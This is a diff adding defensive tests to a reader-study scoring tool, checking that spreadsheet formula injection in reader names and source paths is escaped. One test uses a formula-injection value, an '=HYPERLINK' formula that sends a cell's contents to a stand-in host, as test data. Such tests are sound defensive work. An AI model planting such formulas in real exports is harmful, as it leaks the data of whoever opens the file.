@@ -574,3 +574,43 @@ def test_images_a_reader_left_unanswered_are_counted_and_said(tmp_path):
     assert "Not answered, so not scored: r0 4 of the 6 images." in format_markdown(res)
     assert "Not answered" not in format_markdown(score(pack, key, [_answer_files(tmp_path, names, [truth])[0]],
                                                        permutations=200))
+
+
+def test_a_reader_name_that_is_a_formula_reads_back_as_given(study, tmp_path):
+    """The page exports a name a spreadsheet would run as a formula ("=HYPERLINK(...)") with a "'" before
+    it; scored, that "'" was part of the reader's name, and the same reader's file written by hand (no
+    "'") was another reader."""
+    from xrayforge.evaluate.reader_study import read_answers, read_key
+    pack, key = study
+    name = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    fields = ["reader", "image", "answer"]
+    exported = write_csv(tmp_path / "exported.csv", [{"reader": "'" + name, "image": i, "answer": "real"}
+                                                     for i in "abcd"], fields)
+    assert {a["reader"] for a in read_answers(exported, read_key(key))} == {name}
+    result = score(pack, key, [exported])
+    assert list(result["readers"]) == [name]
+    by_hand = write_csv(tmp_path / "by_hand.csv", [{"reader": name, "image": i, "answer": "real"} for i in "abcd"],
+                        fields)
+    with pytest.raises(ValueError, match="also answered in"):  # one reader, written either way
+        score(pack, key, [exported, by_hand])
+    plain = write_csv(tmp_path / "plain.csv", [{"reader": "O'Brien", "image": "a", "answer": "real"}], fields)
+    assert list(score(pack, key, [plain])["readers"]) == ["O'Brien"]  # a "'" before no formula is the name's
+
+
+def test_the_keys_sources_are_never_spreadsheet_formulas(tmp_path, monkeypatch):
+    """The key's source column held the source paths as given: a folder (or file) named "=..." or "@..."
+    was a formula to the spreadsheet the study's organiser opened the key in."""
+    import numpy as np
+    from PIL import Image
+
+    from xrayforge.evaluate.reader_study import make, read_key
+    monkeypatch.chdir(tmp_path)
+    for sub in ("=1+1", "@SUM(1)"):
+        (tmp_path / sub).mkdir()
+        for i in range(2):
+            Image.fromarray(np.full((16, 16), 40 * i + len(sub), dtype=np.uint8)).save(tmp_path / sub / f"-{i}.png")
+    info = make("=1+1", "@SUM(1)", 4, tmp_path / "pack", size=16)
+    with open(info["key"], newline="") as fh:
+        sources = [row["source"] for row in csv.DictReader(fh)]
+    assert sorted(sources) == sorted(f"'{d}/-{i}.png" for d in ("=1+1", "@SUM(1)") for i in range(2))
+    assert len(read_key(info["key"])) == 4
